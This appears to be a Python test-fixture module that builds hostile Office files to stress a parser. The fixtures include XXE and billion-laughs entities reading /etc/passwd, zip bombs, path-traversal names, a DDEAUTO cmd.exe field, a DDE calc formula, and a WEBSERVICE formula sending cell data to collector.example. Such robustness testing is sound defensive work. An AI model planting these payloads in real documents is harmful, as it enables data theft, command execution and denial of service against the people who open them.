"""Office files that loop, swell, lock, hold entities or macros, or reach for the network."""

from __future__ import annotations

import struct
import zipfile
from io import BytesIO

from tests.hostile.kind import Kind
from tests.hostile.office import NAMES, SHEET, SLIDE, archive, links, para, row, shape, slides, word, workbook

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DOCTYPE = {
    "laughs": f'<!DOCTYPE d [<!ENTITY l0 "ha">{LAUGHS}]>',
    "file": '<!DOCTYPE d [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
    "network": '<!DOCTYPE d SYSTEM "http://collector.example/d.dtd" [<!ENTITY l9 "x">]>',
    "parameter": '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://collector.example/p"> %p; <!ENTITY l9 "x">]>',
    "late": f'<!--{"x" * 9000}--><!DOCTYPE d [<!ENTITY l0 "ha">{LAUGHS}]>',
    "late-file": f'<!--{"x" * 9000}--><!DOCTYPE d [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
    "quadratic": f'<!DOCTYPE d [<!ENTITY l9 "{"x" * 60_000}">]>',
}


def _entity(kind: str, ending: str, encoding: str) -> bytes:
    before = f'<?xml version="1.0" encoding="{encoding}"?>{DOCTYPE[kind]}'
    said = "&l9;" * (3000 if kind == "quadratic" else 1)
    if ending == "docx":
        whole = f"{before}<w:document {NAMES}><w:body>{para(said)}</w:body></w:document>"
        return word(document=whole.encode(encoding))
    if ending == "xlsx":
        return workbook(
            sheet=f"{before}<worksheet {SHEET}><sheetData>{row(1, said)}</sheetData></worksheet>".encode(encoding)
        )
    whole = f"{before}<p:sld {SLIDE}><p:cSld><p:spTree>{shape(said)}</p:spTree></p:cSld></p:sld>"
    return slides("", parts={"ppt/slides/slide1.xml": whole.encode(encoding)})


def _locked_parts(made: bytes) -> bytes:
    """The archive with every part marked as encrypted."""
    out = bytearray(made)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(mark)
        while at >= 0:
            out[at + place] |= 1
            at = out.find(mark, at + 4)
    return bytes(out)


def _lying(made: bytes) -> bytes:
    """The archive whose directory says that every part unpacks to ten bytes."""
    out = bytearray(made)
    at = out.find(b"PK\x01\x02")
    while at >= 0:
        out[at + 24 : at + 28] = struct.pack("<I", 10)
        at = out.find(b"PK\x01\x02", at + 4)
    return bytes(out)


def _overlapping() -> bytes:
    """A directory in which a thousand names share one packed part."""
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("[Content_Types].xml", "x")
        out.writestr("word/a.xml", b"0" * 1_000_000)
        shared = out.infolist()[-1]
        for number in range(1000):
            entry = zipfile.ZipInfo(f"word/{number}.xml")
            for name in ("header_offset", "CRC", "compress_size", "file_size", "compress_type", "flag_bits"):
                setattr(entry, name, getattr(shared, name))
            out.filelist.append(entry)
            out.NameToInfo[entry.filename] = entry
    return made.getvalue()


def _bytes_of_zeros(ending: str, size: int = 200_000_000) -> bytes:
    folder = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[ending]
    made = {"docx": word, "xlsx": workbook, "pptx": slides}[ending]
    return made(parts={f"{folder}/media.xml": b"\0" * size})  # type: ignore[operator, no-any-return]


NEST = {
    "tables": ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 2000),
    "controls": ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", 5000),
    "insertions": ("<w:ins>", "</w:ins>", 20_000),
    "boxes": ("<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>", "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>", 400),
    "versions": ("<mc:AlternateContent><mc:Choice>", "</mc:Choice></mc:AlternateContent>", 3000),
    "tables-200": ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 60),
}  # fmt: skip

WORD = {
    "styles-loop": lambda: word(
        para("A plan."), ("s", "styles", "styles.xml"),
        parts={"word/styles.xml": f'<w:styles {NAMES}><w:style w:styleId="A"><w:basedOn w:val="B"/></w:style>'
               f'<w:style w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'},
    ),
    "document-is-its-own-header": lambda: word(para("A plan."), ("h", "header", "document.xml")),
    "note-points-at-itself": lambda: word(
        para("A plan.", '<w:r><w:footnoteReference w:id="1"/></w:r>'), ("f", "footnotes", "footnotes.xml"),
        parts={"word/footnotes.xml": f'<w:footnotes {NAMES}><w:footnote w:id="1">'
               + para("A note.", '<w:r><w:footnoteReference w:id="1"/></w:r>') + "</w:footnote></w:footnotes>"},
    ),
    "span-of-billions": lambda: word(
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>' + para("Wide.") + "</w:tc></w:tr></w:tbl>"
    ),
    "span-not-a-number": lambda: word(
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="many"/></w:tcPr>' + para("Wide.") + "</w:tc></w:tr></w:tbl>"
    ),
    "symbol-not-a-number": lambda: word('<w:p><w:r><w:sym w:font="Wingdings" w:char="zz"/></w:r></w:p>' + para("A.")),
    "picture-without-size": lambda: word(
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="wide" cy="-1"/><a:graphic><a:graphicData uri="x/picture"/>'
        "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
    ),
    "heading-level-999": lambda: word('<w:p><w:pPr><w:outlineLvl w:val="999"/></w:pPr><w:r><w:t>Top</w:t></w:r></w:p>'),
    "row-of-20000-cells": lambda: word("<w:tbl><w:tr>" + f"<w:tc>{para('x')}</w:tc>" * 20_000 + "</w:tr></w:tbl>"),
    "300000-paragraphs": lambda: word(para("The plan was agreed.") * 300_000),
    "one-word-5-mb": lambda: word(para("w" * 5_000_000)),
    "no-body": lambda: word(document=f"<w:document {NAMES}/>"),
    "document-is-a-picture": lambda: word(document=b"\x89PNG\r\n" + b"\0" * 500),
    "document-missing": lambda: archive({"[Content_Types].xml": "<Types/>", "word/other.xml": "<a/>"}),
    "types-missing-main": lambda: archive({"[Content_Types].xml": "<Types/>", "word/document.xml": "<a/>"}),
    "template-on-the-network": lambda: word(para("A plan."), ("t", "attachedTemplate", "http://collector.example/t.dotm")),
    "picture-on-the-network": lambda: word(para("A plan."), ("i", "image", "http://collector.example/i.png")),
    "template-on-a-share": lambda: word(para("A plan."), ("t", "attachedTemplate", "file://collector.example/t")),
    "dde-field": lambda: word('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"><w:r><w:t>A</w:t></w:r></w:fldSimple></w:p>'),
    "include-field": lambda: word('<w:p><w:fldSimple w:instr="INCLUDETEXT /etc/passwd"><w:r><w:t>A</w:t></w:r></w:fldSimple></w:p>'),
    "names-climb": lambda: archive({"../../etc/cron.d/x": "x", "/abs": "x", "word/../../x": "x", "[Content_Types].xml": "",
                                    "word/document.xml": "<a/>"}),
    "names-twice": lambda: _twice_named(),
    "names-null": lambda: word(para("A plan."), parts={"word/a\0b.xml": "<a/>", "word/" + "n" * 60_000 + ".xml": "<a/>"}),
    "parts-2500": lambda: word(para("A."), parts={f"word/{n}.xml": "<a/>" for n in range(2500)}),
    "overlapping-parts": _overlapping,
    "sizes-lie": lambda: _lying(word(para("The plan was agreed. " * 100_000))),
    "parts-locked": lambda: _locked_parts(word(para("A plan."))),
    "cut-in-half": lambda: word(para("A plan.") * 1000)[:2000],
    "directory-only": lambda: (made := word(para("A plan.")))[made.find(b"PK\x01\x02"):],
    "bytes-before": lambda: b"MZ" + b"\0" * 500 + word(para("A plan.")),
    "comment-64k": lambda: word(para("A plan."))[:-2] + b"\xff\xff" + b"PK\x05\x06" * 16_000,
}  # fmt: skip

SHEETS = {
    "dimension-lies": lambda: workbook(
        sheet=f'<worksheet {SHEET}><dimension ref="A1:XFD1048576"/><sheetData>{row(1, "x")}</sheetData></worksheet>'
    ),
    "far-corner": lambda: workbook('<row r="1048576"><c r="XFD1048576" t="str"><v>far</v></c></row>'),
    "beyond-the-corner": lambda: workbook('<row r="99999999999"><c r="ZZZZZ99999999999" t="str"><v>far</v></c></row>'),
    "merged-whole": lambda: workbook(row(1, "x", "y"), extra='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    "columns-backwards": lambda: workbook('<row r="5"><c r="C5" t="str"><v>a</v></c><c r="A5" t="str"><v>b</v></c></row>'
                                          '<row r="2"><c r="A2" t="str"><v>c</v></c></row>'),
    "column-widths-endless": lambda: workbook(
        sheet=f'<worksheet {SHEET}><cols><col min="1" max="999999999" hidden="1"/></cols><sheetData>{row(1, "x")}'
        f"</sheetData></worksheet>"
    ),
    "string-not-there": lambda: workbook('<row r="1"><c r="A1" t="s"><v>999999</v></c></row>'),
    "string-negative": lambda: workbook('<row r="1"><c r="A1" t="s"><v>-1</v></c></row>'),
    "date-beyond": lambda: workbook('<row r="1"><c r="A1" t="d"><v>9999999-99-99</v></c><c r="B1"><v>1e308</v></c></row>'),
    "number-endless": lambda: workbook(f'<row r="1"><c r="A1"><v>{"9" * 100_000}</v></c></row>'),
    "style-not-there": lambda: workbook('<row r="1"><c r="A1" s="4000000000" t="str"><v>x</v></c></row>'),
    "formula-steals": lambda: workbook('<row r="1"><c r="A1" t="str"><f>WEBSERVICE("http://collector.example/"&amp;A2)</f><v>x</v></c></row>'),
    "formula-dde": lambda: workbook('<row r="1"><c r="A1" t="str"><f>cmd|\'/c calc\'!A0</f><v>=1+1</v></c></row>'),
    "shared-formula-loop": lambda: workbook('<row r="1"><c r="A1"><f t="shared" si="0" ref="A1:A1048576">A1</f></c></row>'),
    "names-loop": lambda: workbook(row(1, "x"), book='<definedNames><definedName name="a">b</definedName>'
                                   '<definedName name="b">a</definedName></definedNames>'),
    "cell-of-10-mb": lambda: workbook(row(1, "w" * 10_000_000)),
    "400000-cells": lambda: workbook("".join(row(n, *"abcdefgh") for n in range(1, 50_000))),
    "2100000-cells": lambda: workbook("<row>" + "<c><v>1</v></c>" * 7 + "</row>" * 1 + ("<row>" + "<c><v>1</v></c>" * 7 + "</row>") * 300_000),
    "strings-a-million": lambda: workbook(
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
        parts={"xl/sharedStrings.xml": f"<sst {SHEET}>" + "<si><t>word</t></si>" * 1_000_000 + "</sst>"},
    ),
    "sheet-title-hostile": lambda: workbook(row(1, "x")).replace(b"Data", b"D\xe2\x80\xaea"),
    "deep-xml": lambda: workbook(sheet=f"<worksheet {SHEET}>" + "<a>" * 100_000 + "</a>" * 100_000 + "</worksheet>"),
    "sheet-cut": lambda: workbook(sheet=f'<worksheet {SHEET}><sheetData>{row(1, "The plan.")}<row r="2"><c'),
    "no-sheets": lambda: workbook(parts={"xl/workbook.xml": f"<workbook {SHEET}/>"}),
    "sheet-is-the-workbook": lambda: workbook(parts={"xl/_rels/workbook.xml.rels": links(("rId1", "worksheet", "workbook.xml"))}),
    "binary": lambda: workbook(parts={"xl/workbook.bin": b"\x83\x01"}),
}  # fmt: skip

SHOWS = {
    "groups-deep": lambda: slides("<p:grpSp>" * 3000 + shape("Deep.") + "</p:grpSp>" * 3000),
    "groups-200-deep": lambda: slides("<p:grpSp>" * 200 + shape("Deep.") + "</p:grpSp>" * 200),
    "slide-is-its-own-notes": lambda: slides(shape("A."), links_of=(("n", "notesSlide", "slide1.xml"),)),
    "1500-slides": lambda: slides(*[shape("A slide.")] * 600),
    "span-of-billions": lambda: slides(
        '<p:graphicFrame><a:graphic><a:graphicData uri="x/table"><a:tbl><a:tr><a:tc gridSpan="2147483647" rowSpan="-5">'
        "<a:txBody><a:p><a:r><a:t>Wide</a:t></a:r></a:p></a:txBody></a:tc></a:tr></a:tbl></a:graphicData></a:graphic>"
        "</p:graphicFrame>"
    ),
    "span-not-a-number": lambda: slides(
        '<p:graphicFrame><a:graphic><a:graphicData uri="x/table"><a:tbl><a:tr><a:tc gridSpan="many" rowSpan="few">'
        "<a:txBody><a:p><a:r><a:t>Wide</a:t></a:r></a:p></a:txBody></a:tc></a:tr></a:tbl></a:graphicData></a:graphic>"
        "</p:graphicFrame>"
    ),
    "slide-lost": lambda: slides(shape("A."), parts={"ppt/slides/slide1.xml": b""}),
    "show-is-a-picture": lambda: slides(shape("A."), parts={"ppt/presentation.xml": b"\x89PNG"}),
    "film-on-the-network": lambda: slides(shape("A."), links_of=(("v", "video", "http://collector.example/v.mp4"),)),
    "slide-listed-10000-times": lambda: slides(
        shape("A."), parts={"ppt/presentation.xml": f"<p:presentation {SLIDE}><p:sldIdLst>"
                            + '<p:sldId id="256" r:id="rId1"/>' * 10_000 + "</p:sldIdLst></p:presentation>"}
    ),
    "chart-points-beyond": lambda: slides(
        '<p:graphicFrame><a:graphic><a:graphicData uri="x/chart"><c:chart r:id="c"/></a:graphicData></a:graphic></p:graphicFrame>',
        links_of=(("c", "chart", "../charts/c.xml"),),
        parts={"ppt/charts/c.xml": f'<c:chartSpace {SLIDE}><c:ser><c:val><c:pt idx="99999999999999999999"><c:v>nan</c:v></c:pt>'
               f"</c:val></c:ser></c:chartSpace>"},
    ),
}  # fmt: skip


def _twice_named() -> bytes:
    with BytesIO() as out:
        with zipfile.ZipFile(out, "w") as made, zipfile.ZipFile(BytesIO(word(para("A plan.")))) as source:
            for name in source.namelist():
                made.writestr(name, source.read(name))
            made.fp.flush()  # type: ignore[union-attr]
            made.NameToInfo.clear()
            made.writestr(
                "word/document.xml", f"<w:document {NAMES}><w:body>{para('Another plan.')}</w:body></w:document>"
            )
        return out.getvalue()


def kinds() -> list[Kind]:
    """Every hostile Office file that hides no finding."""
    slow = ("300000", "2100000", "million", "1500", "10-mb", "20000", "400000", "10000")
    found = []
    for table, ending in ((WORD, "docx"), (SHEETS, "xlsx"), (SHOWS, "pptx")):
        found += [
            Kind(f"{name}.{ending}", make, slow=any(word in name for word in slow))  # type: ignore[arg-type]
            for name, make in table.items()  # type: ignore[attr-defined]
        ]
    for name, (start, end, depth) in NEST.items():
        found.append(Kind(f"nested-{name}.docx", lambda s=start, e=end, n=depth: word(s * n + para("Deep.") + e * n)))  # type: ignore[misc]
    for ending in ("docx", "xlsx", "pptx"):
        for encoding in ("utf-8", "utf-16"):
            found += [
                Kind(f"entity-{name}-{encoding}.{ending}", lambda n=name, f=ending, e=encoding: _entity(n, f, e))  # type: ignore[misc]
                for name in DOCTYPE
            ]
        found.append(
            Kind(f"bomb-zeros.{ending}", lambda f=ending: _bytes_of_zeros(f), outcomes=("refused",), slow=True)
        )  # type: ignore[misc]
    found.append(Kind("macros.docm", lambda: word(para("A plan."), parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})))
    found.append(Kind("macros.xlsm", lambda: workbook(row(1, "x"), parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})))
    found.append(Kind("macros.pptm", lambda: slides(shape("A."), parts={"ppt/vbaProject.bin": b"\xd0\xcf\x11\xe0"})))
    return found
